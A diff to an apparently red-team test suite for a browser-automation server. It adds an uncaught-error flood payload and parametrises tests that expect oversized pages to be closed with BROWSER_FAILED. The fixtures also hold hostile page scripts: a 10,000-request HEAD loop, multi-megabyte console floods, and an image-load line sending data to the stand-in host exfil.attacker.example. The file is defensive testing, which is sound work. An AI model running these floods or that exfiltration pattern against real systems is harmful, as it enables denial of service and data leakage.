@@ -27,6 +27,8 @@ const FLOODS = {
   requestLoop: "(async () => { for (let b = 0; b < 50; b++) await Promise.all(Array.from({ length: 200 }, (_, i) => fetch(location.origin + '/?flood=' + b + '-' + i, { method: 'HEAD', cache: 'no-store' }).catch(() => undefined))); })();",
   /** Four 6 MB console messages: 24 M characters in 4 events, far below the event limit. */
   textFlood: "const big = 'z'.repeat(6000000); for (let i = 0; i < 4; i++) console.log(big + i);",
+  /** Four uncaught errors with 6 MB messages. */
+  errorTextFlood: "const big = 'e'.repeat(6000000); for (let i = 0; i < 4; i++) setTimeout(() => { throw new Error(big + i); }, 0);",
   blockedRequests: "for (let i = 0; i < 400; i++) { const img = new Image(); img.src = 'http://exfil.attacker.example/' + 'a'.repeat(100000) + '/' + i + '?q=' + i; }",
 } as const;
 
@@ -129,15 +131,17 @@ describe('red team: a page that floods the server with what it collects', functi
     await assertServerWhole();
   });
 
-  it('textFlood: four 6 MB console messages pass the 20 000 000-character limit and the page is closed with BROWSER_FAILED and a fix', async () => {
-    standin.setAppScript(FLOODS.textFlood);
-    const result = await open();
-    expect(result.isError, JSON.stringify(result.content).slice(0, 300)).to.equal(true);
-    const text = JSON.stringify(result.content);
-    expect(text).to.contain('BROWSER_FAILED').and.contain('more than 20000000 characters of console text and error messages').and.contain('Fix:');
-    expect(text.length, 'the error is short: none of the text comes back').to.be.below(2_000);
-    await assertServerWhole();
-  });
+  for (const [flood, what] of [['textFlood', 'four 6 MB console messages'], ['errorTextFlood', 'four uncaught errors of 6 MB']] as const) {
+    it(`${flood}: ${what} pass the 20 000 000-character limit and the page is closed with BROWSER_FAILED and a fix`, async () => {
+      standin.setAppScript(FLOODS[flood]);
+      const result = await open();
+      expect(result.isError, JSON.stringify(result.content).slice(0, 300)).to.equal(true);
+      const text = JSON.stringify(result.content);
+      expect(text).to.contain('BROWSER_FAILED').and.contain('more than 20000000 characters of console text and error messages').and.contain('Fix:');
+      expect(text.length, 'the error is short: none of the text comes back').to.be.below(2_000);
+      await assertServerWhole();
+    });
+  }
 
   for (const flood of ['consoleLoop', 'workerConsoleLoop'] as const) {
     it(`${flood}: the page is closed past 5 000 messages with BROWSER_FAILED and a fix (before: the server grew by about 1 GB and the browser failed its health check)`, async () => {
